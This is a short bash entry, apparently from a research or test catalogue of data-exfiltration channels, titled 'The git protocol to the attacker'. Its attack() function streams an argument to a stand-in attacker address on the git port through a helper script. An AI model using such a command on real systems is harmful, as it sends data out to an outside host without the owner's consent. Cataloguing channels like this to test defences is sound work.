# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The git protocol to the attacker'
origin='RESEARCH §2.68'
reason='not_resolved'
forms='output forward run'
attack() { tool send.py stream 198.18.3.66 9418 "git-upload-pack /$1"; }
